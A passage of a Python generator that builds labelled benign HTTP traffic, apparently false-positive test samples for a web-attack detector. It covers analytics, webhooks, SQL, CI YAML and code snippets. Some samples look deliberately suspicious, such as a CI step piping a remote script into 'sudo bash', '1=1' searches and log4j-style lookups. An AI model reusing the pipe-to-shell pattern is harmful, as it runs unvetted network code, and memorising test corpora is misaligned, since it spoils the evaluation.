                  ("cid", "%d.%d" % (RNG.randint(10**8, 2 * 10**9), repoch())), ("ul", RNG.choice(["en-us", "de-de", "ja"])), ("sr", "1920x1080"),
                  ("_s", str(RNG.randint(1, 9))), ("sid", str(repoch())), ("en", RNG.choice(["page_view", "scroll", "view_item", "add_to_cart"])),
                  ("dl", "https://shop.example.net/p/trail-runner-3?color=blue&size=42"), ("dr", "https://www.google.com/"), ("dt", "Trail Runner 3 – Blau | Example Shop"),
                  ("ep.item_list", "Empfehlungen"), ("epn.value", "129.90")]
        add("benign", "analytics-ga4-collect-%03d" % (i + 1), "benign", "POST", "/g/collect?" + urlencode(params), "analytics.example.com",
            extra=bx("shop.example.net", "/p/trail-runner-3", more=[("Origin", "https://shop.example.net")]))
    for i in range(4):
        data = js([{"event": RNG.choice(["Signup", "Video Played", "Plan Upgraded"]), "properties": {"token": rhex(32), "distinct_id": ruuid(), "$browser": "Chrome", "$current_url": "https://app.example.com/onboarding?step=%d" % RNG.randint(1, 5), "time": repoch()}}])
        add("benign", "analytics-mixpanel-b64-%03d" % (i + 1), "benign", "POST", "/track/?ip=1&_=%d" % (repoch() * 1000), "events.example.com",
            body="data=" + q(b64(data)), extra=bx("app.example.com", "/onboarding"))
    for i in range(3):
        eid = rhex(32)
        env = js({"event_id": eid, "sent_at": rts(), "sdk": {"name": "sentry.javascript.react", "version": "8.9.2"}}) + "\n" + js({"type": "event"}) + "\n" + \
            js({"exception": {"values": [{"type": "TypeError", "value": "Cannot read properties of undefined (reading 'map')",
                                          "stacktrace": {"frames": [{"filename": "https://app.example.com/static/js/main.%s.js" % rhex(8), "function": "OrderList", "lineno": 1, "colno": RNG.randint(1000, 90000)}]}}]},
                "request": {"url": "https://app.example.com/orders?status=open"}, "level": "error", "platform": "javascript"}) + "\n"
        add("benign", "analytics-sentry-envelope-%03d" % (i + 1), "benign", "POST", "/api/%d/envelope/?sentry_key=%s&sentry_version=7" % (RNG.randint(1, 99), rhex(32)),
            "errors.example.com", body=env, ctype="text/plain;charset=UTF-8", extra=bx("app.example.com", "/orders"))
    for i in range(3):
        b = js({"batch": [{"type": "page", "name": "Pricing", "properties": {"path": "/pricing", "url": "https://www.example.com/pricing?plan=team", "title": "Pricing – Example"}, "anonymousId": ruuid(), "messageId": "ajs-next-%s" % rhex(32), "timestamp": rts()}], "sentAt": rts(), "writeKey": ralnum(32)})
        add("benign", "analytics-segment-batch-%03d" % (i + 1), "benign", "POST", "/v1/batch", "cdn-events.example.com", body=b, ctype="text/plain", extra=bx("www.example.com", "/pricing"))
    for i in range(3):
        rum = js({"type": "view", "date": repoch() * 1000, "view": {"url": "https://app.example.com/reports/%d?range=30d" % RNG.randint(1, 99), "loading_time": RNG.randint(10**8, 10**9)},
                  "usr": {"id": str(RNG.randint(1, 9999)), "name": RNG.choice(NAMES)}, "_dd": {"format_version": 2}})
        add("benign", "analytics-rum-%03d" % (i + 1), "benign", "POST", "/api/v2/rum?ddsource=browser&ddtags=%s&dd-api-key=pub%s" % (q("sdk_version:5.20.0,env:prod,service:web"), rhex(32)),
            "rum.example.com", body=rum + "\n", ctype="text/plain;charset=UTF-8", extra=bx("app.example.com", "/reports"))
    # Elasticsearch-style relative time JSON in Kibana URL state (rison)
    for i in range(3):
        rison = "(filters:!(),refreshInterval:(pause:!t,value:60000),time:(from:now-%dh,to:now))" % RNG.choice([1, 4, 24])
        appst = "(columns:!(message,host.name),filters:!(),index:'%s',interval:auto,query:(language:kuery,query:'http.response.status_code >= 500 and url.path : \"/api/*\"'),sort:!(!('@timestamp',desc)))" % ruuid()
        add("benign", "kibana-shorten-rison-state-%03d" % (i + 1), "benign", "POST", "/api/shorten_url", "kibana.example.com",
            body=js({"url": "/app/discover#/?_g=%s&_a=%s" % (q(rison, "(),:!'"), q(appst, "(),:!'"))}), ctype="application/json",
            extra=bx("kibana.example.com", "/app/discover", more=[("kbn-xsrf", "true"), ("kbn-version", "7.17.21")]))


# --- rich content, webhooks and mobile payloads that reuse the same containers
@benign_section
def ben_content():
    for i in range(6):
        txt = RNG.choice(TEXTS)
        blocks = ('<!-- wp:heading {"level":2} -->\n<h2 class="wp-block-heading">%s</h2>\n<!-- /wp:heading -->\n\n'
                  '<!-- wp:paragraph -->\n<p>%s <a href="https://www.example.org/guide?lang=de&amp;v=2">Mehr lesen</a></p>\n<!-- /wp:paragraph -->\n\n'
                  '<!-- wp:image {"id":%d,"sizeSlug":"large"} -->\n<figure class="wp-block-image size-large"><img src="https://blog.example.org/wp-content/uploads/2024/06/photo-%d.jpg" alt="" class="wp-image-%d"/></figure>\n<!-- /wp:image -->') % (
            RNG.choice(["Unsere Reise nach Kyoto", "Release notes 4.2", "Recette : tarte aux pommes", "5 tips for remote teams"]), txt,
            RNG.randint(100, 9999), RNG.randint(1, 99), RNG.randint(100, 9999))
        add("benign", "wp-gutenberg-post-%03d" % (i + 1), "benign", "POST", "/wp-json/wp/v2/posts/%d?_locale=user" % RNG.randint(100, 9999), "blog.example.org",
            body=js({"id": RNG.randint(100, 9999), "title": "Draft", "content": blocks, "status": "draft"}), ctype="application/json",
            extra=bx("blog.example.org", "/wp-admin/post.php", more=[("X-WP-Nonce", rhex(10))]))
    for i in range(5):
        doc = {"type": "doc", "content": [{"type": "paragraph", "content": [{"type": "text", "text": RNG.choice(TEXTS)},
                                                                            {"type": "text", "marks": [{"type": "link", "attrs": {"href": "https://www.example.net/ticket/%d" % RNG.randint(1, 9999)}}], "text": " ticket"}]},
                                          {"type": "bulletList", "content": [{"type": "listItem", "content": [{"type": "paragraph", "content": [{"type": "text", "text": "Status: in progress"}]}]}]}]}
        add("benign", "richtext-prosemirror-%03d" % (i + 1), "benign", "PUT", "/api/pages/%s" % ruuid(), "wiki.example.com",
            body=js({"title": "Weekly sync", "body": doc, "version": RNG.randint(2, 40)}), ctype="application/json", browser=False)
    for i in range(6):
        evt = RNG.choice(["payment_intent.succeeded", "invoice.paid", "customer.subscription.updated"])
        body = js({"id": "evt_%s" % ralnum(24), "object": "event", "api_version": "2024-04-10", "created": repoch(), "type": evt,
                   "data": {"object": {"id": "pi_%s" % ralnum(24), "amount": RNG.randint(500, 50000), "currency": RNG.choice(["eur", "usd", "gbp"]),
                                       "metadata": {"order_id": str(RNG.randint(10000, 99999)), "note": RNG.choice(["", "gift wrap", "O'Hara order"])},
                                       "billing_details": {"name": RNG.choice(NAMES), "address": {"city": RNG.choice(["Dublin", "Kraków", "Lyon"])}}}},
                   "livemode": True})
        add("benign", "webhook-payment-%03d" % (i + 1), "benign", "POST", "/webhooks/payments", "shop.example.net", body=body, ctype="application/json; charset=utf-8",
            ua="Stripe/1.0 (+https://stripe.com/docs/webhooks)", extra=[("Stripe-Signature", "t=%d,v1=%s" % (repoch(), rhex(64)))])
    for i in range(4):
        content = "# Example\n\nVersion %d.%d.%d\n" % (RNG.randint(1, 5), RNG.randint(0, 20), RNG.randint(0, 9))
        body = js({"message": "docs: bump version", "content": b64(content), "sha": rhex(40), "branch": "main",
                   "committer": {"name": RNG.choice(NAMES), "email": "dev@example.com"}})
        add("benign", "git-contents-api-b64-%03d" % (i + 1), "benign", "PUT", "/api/v3/repos/example/site/contents/README.md", "git.example.com",
            body=body, ctype="application/json", ua="octokit-rest.js/20.1.1 octokit-core.js/5.2.0 Node.js/20", extra=[("Authorization", "token ghp_" + ralnum(36))])
    for i in range(6):
        thumb = b64(bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb0043") + bytes(RNG.getrandbits(8) for _ in range(RNG.randint(200, 500))))
        pbb = b64(bytes([0x08, RNG.randint(1, 127), 0x12, 0x04]) + b"scan" + bytes([0x1a, 0x10]) + bytes(RNG.getrandbits(8) for _ in range(16)))
        body = js({"deviceId": ruuid(), "capturedAt": rts(), "thumbnail": thumb, "meta": pbb, "geo": {"lat": round(RNG.uniform(-60, 60), 5), "lon": round(RNG.uniform(-120, 120), 5)}})
        add("benign", "mobile-upload-b64-blobs-%03d" % (i + 1), "benign", "POST", "/mobile/v3/captures", "api.example.com", body=body, ctype="application/json",
            ua=RNG.choice(API_UAS[6:] + ["okhttp/4.12.0"]), extra=[("Authorization", "Bearer " + jwt({"sub": ruuid(), "iat": repoch()}, "HS256"))])
    for i in range(5):
        msg = RNG.choice(TEXTS)
        body = js({"channel": "C%s" % ralnum(8).upper(), "text": msg, "blocks": [{"type": "section", "text": {"type": "mrkdwn", "text": "*Order* <https://shop.example.net/admin/orders/%d|#%d> -- %s" % (RNG.randint(1000, 9999), RNG.randint(1000, 9999), msg)}}]})
        add("benign", "chat-message-blocks-%03d" % (i + 1), "benign", "POST", "/api/chat.postMessage", "chat.example.com", body=body,
            ctype="application/json; charset=utf-8", browser=False, extra=[("Authorization", "Bearer xoxb-%d-%s" % (RNG.randint(10**9, 10**10), ralnum(24)))])
    for i in range(6):
        q_ = RNG.choice(["select comfort mattress", "drop-in anchor", "union square hotels", "order by phone", "script writing course", "table for 4 tonight",
                         "where to buy 'Café de Paris' spice", "1=1 meaning", "<3 emoji keyboard", "C# vs Java"])
        add("benign", "search-plain-tricky-%03d" % (i + 1), "benign", "GET", "/search?q=%s&lang=%s" % (quote_plus(q_), RNG.choice(["en", "de", "fr"])),
            "www.example.com", extra=bx("www.example.com", "/"))
    for i in range(5):
        payload = {"user": {"name": RNG.choice(NAMES), "email": "u%d@example.org" % RNG.randint(1, 999)},
                   "order": {"id": RNG.randint(10000, 99999), "items": RNG.randint(1, 5)}, "locale": RNG.choice(["de-AT", "fr-BE", "en-IE"])}
        add("benign", "b64-json-query-payload-%03d" % (i + 1), "benign", "GET", "/api/v1/preview?data=%s" % q(b64(js(payload))), "app.example.com", browser=False)


# --- dev-content: legitimate user content that contains code, SQL, shell, markup, queries
def dev(name, method, uri, host, body=None, ctype=None, **kw):
    add("benign", "dev-" + name, "dev-content", method, uri, host, body=body, ctype=ctype, **kw)


SQL_SNIPPETS = [
    "SELECT c.id, c.name, COUNT(o.id) AS orders\nFROM customers c\nLEFT JOIN orders o ON o.customer_id = c.id\nWHERE o.created_at >= now() - interval '30 days'\nGROUP BY c.id, c.name\nORDER BY orders DESC\nLIMIT 20;",
    "SELECT region, SUM(amount) FROM sales WHERE year = 2024 GROUP BY region\nUNION ALL\nSELECT 'TOTAL', SUM(amount) FROM sales WHERE year = 2024;",
    "UPDATE products SET price = price * 1.05 WHERE category_id IN (SELECT id FROM categories WHERE name = 'Kitchen');",
    "WITH ranked AS (\n  SELECT *, ROW_NUMBER() OVER (PARTITION BY user_id ORDER BY ts DESC) AS rn FROM events\n)\nSELECT * FROM ranked WHERE rn = 1;",
    "CREATE INDEX CONCURRENTLY idx_orders_customer ON orders (customer_id, created_at DESC);\n-- then: DROP INDEX IF EXISTS idx_orders_old;",
    "SELECT name FROM users WHERE email LIKE '%@example.com' AND deleted_at IS NULL OR role = 'admin';",
    "DELETE FROM sessions WHERE expires_at < CURRENT_TIMESTAMP;\nVACUUM ANALYZE sessions;",
    "SELECT table_name, column_name, data_type FROM information_schema.columns WHERE table_schema = 'public' ORDER BY table_name;",
]


@benign_section
def dev_sql():
    for i, sql in enumerate(SQL_SNIPPETS):
        m = i % 4
        if m == 0:
            dev("metabase-native-query-%03d" % (i + 1), "POST", "/api/dataset", "bi.example.com",
                js({"database": RNG.randint(1, 5), "type": "native", "native": {"query": sql, "template-tags": {}}, "parameters": []}), "application/json",
                extra=bx("bi.example.com", "/question"))
        elif m == 1:
            dev("sqllab-execute-%03d" % (i + 1), "POST", "/api/v1/sqllab/execute/", "bi.example.com",
                js({"database_id": 1, "schema": "public", "sql": sql, "runAsync": False, "queryLimit": 1000, "client_id": ralnum(10)}), "application/json",
                extra=bx("bi.example.com", "/sqllab/", more=[("X-CSRFToken", ralnum(40))]))
        elif m == 2:
            dev("forum-question-sql-%03d" % (i + 1), "POST", "/api/questions", "forum.example.com",
                js({"title": "Query is slow on Postgres 16 -- how to optimise?", "tags": ["postgresql", "sql", "performance"],
                    "body": "I have this query:\n\n```sql\n%s\n```\n\nEXPLAIN shows a seq scan. Any idea?" % sql}), "application/json",
                extra=bx("forum.example.com", "/questions/ask"))
        else:
            dev("migration-b64-%03d" % (i + 1), "POST", "/api/v1/migrations", "ops.example.com",
                js({"name": "2024_06_%02d_%s" % (RNG.randint(1, 28), rhex(6)), "dialect": "postgresql", "sqlBase64": b64(sql)}), "application/json", browser=False)
    bnd = boundary()
    mig = "-- +migrate Up\nCREATE TABLE IF NOT EXISTS invoices (\n  id BIGSERIAL PRIMARY KEY,\n  customer_id BIGINT NOT NULL REFERENCES customers(id),\n  note TEXT DEFAULT ''\n);\n\n-- +migrate Down\nDROP TABLE IF EXISTS invoices;\n"
    dev("migration-file-upload-009", "POST", "/admin/db/migrations/upload", "ops.example.com",
        multipart([filepart("file", "0042_invoices.sql", "application/sql", mig), field("env", "staging")], bnd), "multipart/form-data; boundary=" + bnd)
    dev("graphql-saved-query-sql-010", "POST", "/graphql", "bi.example.com",
        js({"query": "mutation Save($input: SavedQueryInput!) { saveQuery(input: $input) { id } }",
            "variables": {"input": {"name": "Churn by cohort", "sql": "SELECT date_trunc('month', signup) AS cohort, COUNT(*) FILTER (WHERE churned) * 1.0 / COUNT(*) FROM users GROUP BY 1 ORDER BY 1;"}}}),
        "application/json", browser=False)
    dev("kusto-query-011", "POST", "/v1/rest/query", "adx.example.com",
        js({"db": "Telemetry", "csl": "requests\n| where timestamp > ago(1h) and resultCode startswith \"5\"\n| summarize count() by bin(timestamp, 5m), name\n| order by count_ desc"}),
        "application/json; charset=utf-8", browser=False)
    dev("grafana-dashboard-promql-logql-012", "POST", "/api/dashboards/db", "grafana.example.com",
        js({"dashboard": {"title": "API errors", "panels": [
            {"type": "timeseries", "targets": [{"expr": "sum by (route) (rate(http_requests_total{status=~\"5..\", job=\"api\"}[5m]))"}]},
            {"type": "logs", "targets": [{"expr": "{app=\"nginx\"} |= \"error\" | json | line_format \"{{.status}} {{.request}}\""}]}]}, "overwrite": True}),
        "application/json", browser=False, extra=[("Authorization", "Bearer glsa_" + ralnum(32))])
    dev("es-painless-script-013", "POST", "/products/_update_by_query", "search.example.com",
        js({"query": {"term": {"brand": "acme"}}, "script": {"lang": "painless", "source": "ctx._source.price = Math.round(ctx._source.price * params.f * 100) / 100.0", "params": {"f": 1.05}}}),
        "application/json", ua="elasticsearch-py/8.14.0 (Python/3.12.3; elastic-transport/8.13.1)")
    dev("mongo-tutorial-post-014", "POST", "/api/posts", "blog.example.org",
        js({"title": "MongoDB aggregation basics", "markdown": "Use `$match` then `$group`:\n\n```js\ndb.orders.aggregate([\n  { $match: { status: { $in: ['paid', 'shipped'] }, total: { $gt: 100 } } },\n  { $group: { _id: '$customerId', sum: { $sum: '$total' } } }\n])\n```"}),
        "application/json", extra=bx("blog.example.org", "/editor"))


CI_YAMLS = [
    "stages: [test, deploy]\n\ntest:\n  image: python:3.12\n  script:\n    - pip install -r requirements.txt\n    - pytest -q --maxfail=1\n\ndeploy:\n  stage: deploy\n  script:\n    - apt-get update && apt-get install -y rsync\n    - rsync -az --delete build/ deploy@198.51.100.10:/var/www/site/\n  only: [main]\n",
    "name: CI\non:\n  push:\n    branches: [main]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        run: |\n          curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -\n          sudo apt-get install -y nodejs\n      - run: npm ci && npm test -- --coverage\n      - run: echo \"sha=$(git rev-parse --short HEAD)\" >> \"$GITHUB_OUTPUT\"\n",
    "pipeline:\n  build:\n    image: golang:1.22\n    commands:\n      - go vet ./...\n      - go test -race ./...\n      - CGO_ENABLED=0 go build -o bin/app ./cmd/app\n  notify:\n    image: alpine\n    commands:\n      - wget -qO- \"https://hooks.example.com/ci?status=${CI_PIPELINE_STATUS}&repo=${CI_REPO}\"\n",
    "version: 2.1\njobs:\n  backup:\n    docker:\n      - image: postgres:16\n    steps:\n      - run: pg_dump -h db.internal -U app app | gzip > /tmp/backup-$(date +%F).sql.gz\n      - run: ls -la /tmp && find /tmp -name '*.sql.gz' -mtime +7 -delete\n",
]
YAML_TAGGED = [
    "AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  Bucket:\n    Type: AWS::S3::Bucket\n    Properties:\n      BucketName: !Sub '${AWS::StackName}-assets'\n  Policy:\n    Type: AWS::S3::BucketPolicy\n    Properties:\n      Bucket: !Ref Bucket\n      PolicyDocument:\n        Statement:\n          - Effect: Allow\n            Principal: '*'\n            Action: s3:GetObject\n            Resource: !Join ['', [!GetAtt Bucket.Arn, '/*']]\n",
    "- hosts: web\n  become: true\n  tasks:\n    - name: Install packages\n      apt:\n        name: \"{{ item }}\"\n        state: present\n      loop: [nginx, certbot]\n    - name: Reload\n      shell: nginx -t && systemctl reload nginx\n      when: ansible_os_family == 'Debian'\n",
    "replicaCount: 2\nimage:\n  repository: registry.example.com/api\n  tag: \"{{ .Chart.AppVersion }}\"\nenv:\n  - name: DATABASE_URL\n    value: \"postgres://app@{{ .Release.Name }}-db:5432/app?sslmode=require\"\n",
    "%YAML 1.2\n---\nanchors:\n  defaults: &defaults\n    timeout: 30\n    retries: 3\nservices:\n  billing:\n    <<: *defaults\n    url: https://billing.example.com\n  stamp: !!timestamp 2024-06-01T12:00:00Z\n  ratio: !!float 0.75\n  raw: !!binary |\n    R0lGODlhAQABAIAAAAUEBAAAACwAAAAAAQABAAACAkQBADs=\n",
    "# Home Assistant automation\n- alias: Porch light\n  trigger:\n    - platform: sun\n      event: sunset\n  action:\n    - service: light.turn_on\n      target:\n        entity_id: !secret porch_light\n      data:\n        brightness_pct: \"{{ 60 if is_state('sun.sun', 'below_horizon') else 0 }}\"\n",
]


@benign_section
def dev_ci_yaml():
    for i, y in enumerate(CI_YAMLS):
        if i % 2 == 0:
            dev("ci-lint-yaml-%03d" % (i + 1), "POST", "/api/v4/projects/%d/ci/lint" % RNG.randint(10, 999), "gitlab.example.com",
                js({"content": y, "dry_run": True}), "application/json", browser=False, extra=[("PRIVATE-TOKEN", "glpat-" + ralnum(20))])
        else:
            dev("ci-config-b64-contents-%03d" % (i + 1), "PUT", "/api/v3/repos/example/app/contents/.github/workflows/ci.yml", "git.example.com",
                js({"message": "ci: update workflow", "content": b64(y), "sha": rhex(40), "branch": "ci-update"}), "application/json",
                ua="octokit-rest.js/20.1.1 octokit-core.js/5.2.0 Node.js/20", extra=[("Authorization", "token ghp_" + ralnum(36))])
    for i, y in enumerate(YAML_TAGGED):
        if i % 2:
            dev("yaml-tags-body-%03d" % (i + 1), "POST", "/api/templates/validate", "ops.example.com", y, "application/yaml", browser=False)
        else:
            dev("yaml-tags-in-json-%03d" % (i + 1), "POST", "/api/snippets", "paste.example.com",
                js({"title": "config snippet", "language": "yaml", "content": y, "visibility": "internal"}), "application/json",
                extra=bx("paste.example.com", "/new"))
    dock = "FROM python:3.12-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates \\\n && rm -rf /var/lib/apt/lists/*\nWORKDIR /app\nCOPY . .\nRUN pip install --no-cache-dir -r requirements.txt\nHEALTHCHECK CMD curl -f http://localhost:8000/health || exit 1\nCMD [\"gunicorn\", \"-b\", \"0.0.0.0:8000\", \"app:app\"]\n"
    dev("dockerfile-b64-build-010", "POST", "/api/v1/builds", "ci.example.com",
        js({"repo": "example/api", "dockerfileBase64": b64(dock), "tags": ["api:1.8.0"]}), "application/json", browser=False)
    sh = "#!/usr/bin/env bash\nset -euo pipefail\nBACKUP_DIR=/var/backups/db\nmkdir -p \"$BACKUP_DIR\"\npg_dump \"$DATABASE_URL\" | gzip > \"$BACKUP_DIR/$(date +%Y%m%d-%H%M).sql.gz\"\nfind \"$BACKUP_DIR\" -type f -mtime +14 -exec rm -f {} \\;\n"
    dev("cron-job-script-011", "POST", "/api/cron/jobs", "ops.example.com",
        js({"name": "nightly-db-backup", "schedule": "15 2 * * *", "command": sh, "timeout": 1800}), "application/json", browser=False)
    dev("cron-job-script-form-012", "POST", "/admin/scheduler/save", "ops.example.com",
        urlencode({"name": "log-rotate", "schedule": "0 * * * *", "script": "cd /var/log/app && ls -1t *.log | tail -n +20 | xargs -r rm --"}),
        extra=bx("ops.example.com", "/admin/scheduler"))
    tf = "resource \"aws_instance\" \"web\" {\n  ami           = data.aws_ami.ubuntu.id\n  instance_type = \"t3.micro\"\n  user_data     = <<-EOF\n    #!/bin/bash\n    apt-get update -y && apt-get install -y nginx\n    systemctl enable --now nginx\n  EOF\n  tags = { Name = \"web-${var.env}\" }\n}\n"
    bnd = boundary()
    dev("terraform-upload-013", "POST", "/api/v2/workspaces/ws-%s/configuration-versions/upload" % ralnum(16), "tf.example.com",
        multipart([filepart("file", "main.tf", "text/plain", tf)], bnd), "multipart/form-data; boundary=" + bnd, browser=False)
    pkg = js({"name": "@example/web", "version": "2.3.0", "scripts": {"build": "vite build", "test": "vitest run", "lint": "eslint 'src/**/*.{ts,tsx}'",
                                                                       "postinstall": "node scripts/patch.js && husky install", "clean": "rm -rf dist node_modules/.cache"}})
    dev("package-json-b64-014", "POST", "/api/projects/12/files", "ide.example.com",
        js({"path": "package.json", "encoding": "base64", "content": b64(pkg)}), "application/json", browser=False)


CODE_SNIPPETS = [
    ("python", "import subprocess\n\nresult = subprocess.run([\"git\", \"log\", \"--oneline\", \"-n\", \"5\"], capture_output=True, text=True, check=True)\nprint(result.stdout)"),
    ("python", "import os\nfrom pathlib import Path\n\nBASE = Path(__file__).resolve().parent\nconfig = (BASE / '..' / 'config' / 'settings.toml').read_text()\nprint(os.environ.get('APP_ENV', 'dev'))"),
    ("javascript", "const params = new URLSearchParams(window.location.search);\nconst el = document.getElementById('greeting');\n// never use innerHTML with user input\nel.textContent = `Hello, ${params.get('name') ?? 'guest'}`;"),
    ("javascript", "app.get('/api/users/:id', async (req, res) => {\n  const { rows } = await pool.query('SELECT id, name FROM users WHERE id = $1', [req.params.id]);\n  res.json(rows[0] ?? null);\n});"),
    ("php", "<?php\n$stmt = $pdo->prepare('SELECT * FROM posts WHERE slug = :slug');\n$stmt->execute(['slug' => $_GET['slug'] ?? '']);\n$post = $stmt->fetch(PDO::FETCH_ASSOC);\necho htmlspecialchars($post['title'], ENT_QUOTES, 'UTF-8');"),
    ("java", "try (var conn = ds.getConnection();\n     var ps = conn.prepareStatement(\"SELECT name FROM users WHERE email = ?\")) {\n  ps.setString(1, email);\n  try (var rs = ps.executeQuery()) { while (rs.next()) log.info(\"user {}\", rs.getString(1)); }\n}"),
    ("go", "cmd := exec.CommandContext(ctx, \"ffmpeg\", \"-i\", in, \"-vf\", \"scale=640:-1\", out)\nif err := cmd.Run(); err != nil {\n\treturn fmt.Errorf(\"transcode: %w\", err)\n}"),
    ("bash", "for f in ./logs/*.log; do\n  grep -E 'ERROR|FATAL' \"$f\" | awk '{print $1, $2, $NF}' >> errors.txt\ndone\ntar -czf logs-$(date +%F).tar.gz ./logs && rm -f ./logs/*.log"),
    ("powershell", "Get-ChildItem -Path C:\\inetpub\\logs -Recurse -Filter *.log |\n  Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } |\n  Remove-Item -WhatIf"),
    ("csharp", "using var cmd = new SqlCommand(\"SELECT TOP 10 * FROM Orders WHERE CustomerId = @id ORDER BY OrderDate DESC\", conn);\ncmd.Parameters.AddWithValue(\"@id\", customerId);"),
    ("html", "<!DOCTYPE html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\"><title>Demo</title>\n<script src=\"https://cdn.example.com/lib/chart.min.js\"></script></head>\n<body onload=\"init()\"><canvas id=\"c\"></canvas>\n<script>function init(){ new Chart(document.getElementById('c'), cfg); }</script></body></html>"),
    ("ruby", "User.where(\"created_at > ?\", 1.week.ago).find_each do |u|\n  UserMailer.with(user: u).digest.deliver_later\nend"),
    ("rust", "let out = std::process::Command::new(\"ls\").arg(\"-la\").output()?;\nprintln!(\"{}\", String::from_utf8_lossy(&out.stdout));"),
    ("xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE web-app PUBLIC \"-//Sun Microsystems, Inc.//DTD Web Application 2.3//EN\" \"http://java.sun.com/dtd/web-app_2_3.dtd\">\n<web-app><servlet><servlet-name>api</servlet-name><servlet-class>com.example.ApiServlet</servlet-class></servlet></web-app>"),
]


@benign_section
def dev_code():
    for i, (lang, code) in enumerate(CODE_SNIPPETS):
        m = i % 5
        if m == 0:
            dev("gist-create-%s-%03d" % (lang, i + 1), "POST", "/api/gists", "paste.example.com",
                js({"description": "snippet", "public": False, "files": {"snippet.%s" % {"python": "py", "javascript": "js", "bash": "sh"}.get(lang, lang): {"content": code}}}),
                "application/json", browser=False, extra=[("Authorization", "token ghp_" + ralnum(36))])
        elif m == 1:
            dev("forum-answer-%s-%03d" % (lang, i + 1), "POST", "/api/answers", "forum.example.com",
                js({"questionId": RNG.randint(10000, 99999), "body": "You can do it like this:\n\n```%s\n%s\n```\n\nHope that helps!" % (lang, code)}), "application/json",
                extra=bx("forum.example.com", "/questions"))
        elif m == 2:
            dev("pr-review-comment-%s-%03d" % (lang, i + 1), "POST", "/api/v3/repos/example/app/pulls/%d/comments" % RNG.randint(1, 900), "git.example.com",
                js({"body": "Suggestion:\n```suggestion\n%s\n```" % code, "commit_id": rhex(40), "path": "src/main.%s" % lang[:2], "line": RNG.randint(5, 300), "side": "RIGHT"}),
                "application/json", ua="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
        elif m == 3:
            dev("ide-save-b64-%s-%03d" % (lang, i + 1), "PUT", "/api/workspaces/%s/files" % ralnum(8), "ide.example.com",
                js({"path": "src/example.%s" % lang[:2], "encoding": "base64", "content": b64(code)}), "application/json", browser=False)
        else:
            bnd = boundary()
            dev("paste-multipart-%s-%03d" % (lang, i + 1), "POST", "/paste", "paste.example.com",
                multipart([field("syntax", lang), field("expiry", "1w"), field("content", code)], bnd), "multipart/form-data; boundary=" + bnd,
                extra=bx("paste.example.com", "/"))
    nb = {"cells": [{"cell_type": "markdown", "source": ["# Monthly revenue\n"], "metadata": {}},
                    {"cell_type": "code", "source": ["import pandas as pd\n", "df = pd.read_sql(\"SELECT date_trunc('month', paid_at) m, SUM(total) FROM invoices GROUP BY 1\", con)\n", "df.plot(x='m')\n"],
                     "metadata": {}, "outputs": [], "execution_count": 3},
                    {"cell_type": "code", "source": ["!pip install -q seaborn\n", "%matplotlib inline\n"], "metadata": {}, "outputs": [], "execution_count": 4}],
          "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}}, "nbformat": 4, "nbformat_minor": 5}
    dev("jupyter-notebook-save-015", "PUT", "/api/contents/analysis/revenue.ipynb", "jupyter.example.com",
        js({"type": "notebook", "format": "json", "content": nb}), "application/json", extra=bx("jupyter.example.com", "/lab", more=[("X-XSRFToken", ralnum(32))]))
    postman = {"info": {"name": "Orders API", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
               "item": [{"name": "Login", "event": [{"listen": "test", "script": {"exec": ["const j = pm.response.json();", "pm.environment.set('token', j.access_token);"]}}],
                         "request": {"method": "POST", "url": "{{baseUrl}}/auth/login", "body": {"mode": "raw", "raw": "{\"user\":\"{{user}}\",\"password\":\"{{password}}\"}"}}}]}
    dev("postman-collection-import-016", "POST", "/api/collections/import", "apitools.example.com", js(postman), "application/json", browser=False)
    for i, (tname, tpl) in enumerate([
        ("jinja", "{% extends 'base.html' %}\n{% block content %}\n<h1>Hallo {{ user.first_name|e }}!</h1>\n{% for o in orders %}<li>{{ o.id }} – {{ o.total|round(2) }} €</li>{% endfor %}\n{% endblock %}"),
        ("handlebars", "<p>Hi {{customer.name}},</p>\n{{#if order.shipped}}<p>Your order {{order.id}} is on its way.</p>{{else}}<p>We're packing it.</p>{{/if}}"),
        ("liquid", "{% assign total = cart.total_price | money %}\n<p>{{ 'cart.subtotal' | t }}: {{ total }}</p>\n{% if customer %}<a href=\"{{ routes.account_url }}\">{{ customer.first_name }}</a>{% endif %}"),
        ("twig", "{% for item in items %}\n  <tr><td>{{ item.name|escape }}</td><td>{{ item.price|number_format(2, ',', '.') }}</td></tr>\n{% else %}<tr><td colspan=\"2\">Keine Artikel</td></tr>{% endfor %}"),
    ]):
        dev("email-template-%s-%03d" % (tname, i + 17), "PUT", "/api/templates/%s" % RNG.choice(["order-confirmation", "welcome", "digest"]), "mail.example.com",
            js({"engine": tname, "subject": "Ihre Bestellung", "html": tpl}), "application/json", extra=bx("mail.example.com", "/templates"))
    dev("support-ticket-log4j-config-021", "POST", "/api/tickets", "helpdesk.example.com",
        js({"subject": "Log pattern not applied after upgrade", "body": "Our log4j2.xml:\n<PatternLayout pattern=\"%d{ISO8601} [%t] %-5level %logger{36} ${sys:app.name} - %msg%n\"/>\nand lookups like ${env:HOSTNAME} are printed literally since 2.17.1. Stack:\njava.lang.IllegalStateException: No appender\n\tat org.apache.logging.log4j.core.config.AbstractConfiguration.start(AbstractConfiguration.java:304)"}),
        "application/json", extra=bx("helpdesk.example.com", "/tickets/new"))
    dev("wiki-nginx-config-022", "PUT", "/api/pages/nginx-setup", "wiki.example.com",
        js({"title": "nginx setup", "markdown": "```nginx\nlocation ~ \\.php$ {\n    include fastcgi_params;\n    fastcgi_pass unix:/run/php/php8.2-fpm.sock;\n    fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;\n}\nlocation /static/ { alias /var/www/app/static/; }\n```"}),
        "application/json", browser=False)
    dev("wiki-htaccess-023", "PUT", "/api/pages/apache-rewrites", "wiki.example.com",
